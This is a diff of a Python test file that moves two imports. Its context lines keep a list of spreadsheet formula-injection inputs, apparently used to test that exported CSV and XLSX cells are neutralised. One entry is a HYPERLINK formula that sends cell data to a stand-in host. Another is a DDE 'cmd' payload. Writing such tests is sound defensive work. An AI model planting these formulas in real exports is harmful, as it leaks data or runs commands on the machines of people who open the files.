@@ -18,7 +18,7 @@ from xxgk.render import render
 from xxgk.store.ingest import ingest, local_engine
 from xxgk.store.models import Report
 from xxgk.tabular import neutral, write_csv, write_xlsx
-from xxgk.web.api import create_app
+from xxgk.web.app import create_app
 
 FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]
 
@@ -266,7 +266,7 @@ def test_an_honestly_inflating_docx_part_and_too_many_files_are_refused_before_p
     import zipfile
 
     from xxgk.pipeline import parse_bytes
-    from xxgk.read import ReadError
+    from xxgk.errors import ReadError
 
     import random
     import string
@@ -380,7 +380,7 @@ def test_a_file_past_its_time_or_memory_is_stopped_and_said_so(tmp_path):
     import pytest
 
     from xxgk.pipeline import parse_bytes
-    from xxgk.read import ReadError
+    from xxgk.errors import ReadError
     from xxgk.sandbox import UPLOAD, Limits, parse_limited
 
     data = _long_text(tmp_path)
